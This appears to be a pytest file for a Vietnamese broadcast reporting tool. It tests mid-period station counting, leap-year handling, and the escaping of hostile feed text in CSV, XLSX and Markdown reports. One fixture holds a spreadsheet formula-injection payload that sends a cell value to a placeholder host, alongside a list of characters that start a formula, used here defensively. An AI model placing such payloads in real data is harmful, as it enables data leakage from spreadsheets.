"""The report with hostile feed text, a station added mid-period and a leap-year month (real builds)."""

from __future__ import annotations

import csv
import datetime as dt
import io
import re
import shutil
from pathlib import Path

import pytest

from broadcast import api
from broadcast.config import load_config
from broadcast.models import VN_TZ
from broadcast.report import REASONS, Report, StationReport, render

DATA = Path(__file__).parent / "data"
FEB28, FEB29 = dt.date(2028, 2, 28), dt.date(2028, 2, 29)
# What a hostile feed calls itself: it becomes the stories' source name.
HOSTILE_SOURCE = '=HYPERLINK("http://x.invalid/?"&A1,"Bấm") \\| nguồn'
HOSTILE_NAME = '+84 Đài "Hòa Phú" @xã'
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
HEAD = '''
[general]
data_dir = "data"

[[feeds]]
name = "tinh"
url = "tin.xml"

[tts]
engine = "espeak"
'''


def at(day: dt.date, hour: int = 5) -> dt.datetime:
    return dt.datetime.combine(day, dt.time(hour), VN_TZ)


@pytest.fixture(scope="module")
def period(tmp_path_factory):
    """Hòa Phú airs on 28 and 29 February 2028; Ea Kao joins on the 29th."""
    root = tmp_path_factory.mktemp("period")
    feed = (DATA / "demo-feed.xml").read_text(encoding="utf-8")
    channel = HOSTILE_SOURCE.replace("&", "&amp;")
    feed = re.sub(r"<title>Tin cải cách hành chính \(bản tin mẫu\)</title>", f"<title>{channel}</title>", feed, 1)
    # A site with no known outlet name: its channel title is the source.
    feed = feed.replace("<link>https://daklak.gov.vn/</link>", "<link>https://x.invalid/</link>", 1)
    (root / "tin.xml").write_text(feed, encoding="utf-8")
    stations = f'''
[[stations]]
id = "hoa-phu"
name = '{HOSTILE_NAME}'
target_minutes = 1
'''
    joined = '''
[[stations]]
id = "ea-kao"
name = "Đài truyền thanh xã Ea Kao"
target_minutes = 1
'''
    path = root / "broadcast.toml"
    path.write_text(HEAD + stations, encoding="utf-8")
    out = root / "audio_out"
    assert not api.build(load_config(path), out, FEB28, at(FEB28), jobs=1).failed
    path.write_text(HEAD + stations + joined, encoding="utf-8")
    config = load_config(path)
    assert not api.build(config, out, FEB29, at(FEB29), jobs=1).failed
    return config


def test_a_station_added_mid_period_is_planned_from_its_first_bulletin(period):
    report = api.report(period, dt.date(2028, 2, 1), dt.date(2028, 2, 29))
    by_id = {s.station: s for s in report.stations}
    assert by_id["hoa-phu"].planned == 2 and by_id["hoa-phu"].aired == 2
    assert by_id["ea-kao"].planned == 1 and by_id["ea-kao"].aired == 1
    assert by_id["ea-kao"].coverage == 1.0 and not by_id["ea-kao"].missing
    assert report.total.planned == 3
    # Days after the first bulletin still count when nothing was made.
    march = {s.station: s for s in api.report(period, dt.date(2028, 2, 28), dt.date(2028, 3, 2)).stations}
    assert march["ea-kao"].planned == 3
    assert [(d, r) for d, _, r in march["ea-kao"].missing] == [(dt.date(2028, 3, 1), "missing"),
                                                              (dt.date(2028, 3, 2), "missing")]
    # A period that ends before the station joined plans nothing for it.
    early = {s.station: s for s in api.report(period, FEB28, FEB28).stations}
    assert early["ea-kao"].planned == 0 and early["ea-kao"].missing == []


def test_csv_cells_never_start_a_formula(period):
    report = api.report(period, FEB28, FEB29)
    assert HOSTILE_SOURCE in report.total.sources, "the hostile source reached the report"
    rows = list(csv.reader(io.StringIO(render(report, "csv").decode("utf-8-sig"))))
    cells = [c for row in rows for c in row]
    assert "'" + HOSTILE_NAME in cells
    assert not [c for c in cells if c.startswith(FORMULA_START)]


def test_xlsx_holds_hostile_text_as_text_never_as_a_formula(period, tmp_path):
    openpyxl = pytest.importorskip("openpyxl")
    data = render(api.report(period, FEB28, FEB29), "xlsx")
    (tmp_path / "r.xlsx").write_bytes(data)
    wb = openpyxl.load_workbook(tmp_path / "r.xlsx")
    values = []
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
                values.append(cell.value)
    assert HOSTILE_NAME in values
    assert any(isinstance(v, str) and HOSTILE_SOURCE in v for v in values)


def test_markdown_tables_keep_their_columns_whatever_the_feed_writes(period):
    text = render(api.report(period, FEB28, FEB29), "md").decode("utf-8")
    tables: list[list[str]] = [[]]
    for line in text.splitlines():
        if line.startswith("|"):
            tables[-1].append(line)
        elif tables[-1]:
            tables.append([])
    tables = [t for t in tables if t]
    assert len(tables) >= 3
    for table in tables:
        widths = {len(re.findall(r"(?<!\\)(?:\\\\)*\|", line)) for line in table}
        assert len(widths) == 1, table
    assert "HYPERLINK" in text


def test_office_formats_drop_control_characters_instead_of_failing():
    pytest.importorskip("openpyxl")
    pytest.importorskip("docx")
    st = StationReport(station="hoa-phu", name="Đài\x07 Hòa Phú", planned=1, aired=1)
    st.sources["Báo\x0b Đắk Lắk"] += 1
    st.missing.append((FEB28, "", "missing"))
    total = StationReport(station="TỔNG", name="Đắk Lắk")
    total.add(st)
    report = Report(start=FEB28, end=FEB28, province="Đắk Lắk", stations=[st], total=total,
                    topic_labels={"mot-cua": "Một cửa"})
    assert REASONS["missing"]
    for fmt in ("xlsx", "docx", "csv", "md"):
        data = render(report, fmt)
        assert data
        if fmt in ("csv", "md"):
            assert b"\x07" not in data and b"\x0b" not in data


def test_a_notice_of_several_paragraphs_is_counted_at_its_priority(tmp_path):
    shutil.copy(DATA / "demo-feed.xml", tmp_path / "tin.xml")
    (tmp_path / "broadcast.toml").write_text(HEAD + '''
[[stations]]
id = "hoa-phu"
name = "Đài truyền thanh xã Hòa Phú"
target_minutes = 1
''', encoding="utf-8")
    config = load_config(tmp_path / "broadcast.toml")
    out = tmp_path / "audio_out"
    api.notice(config, out, "Mưa lớn kéo dài.\n\nBà con không qua ngầm tràn, suối sâu.", ["hoa-phu"], FEB28,
               at(FEB28, 4), priority="emergency", build_now=False)
    assert not api.build(config, out, FEB28, at(FEB28), jobs=1).failed
    (station,) = api.report(config, FEB28, FEB28).stations
    assert dict(station.notices) == {"emergency": 1}
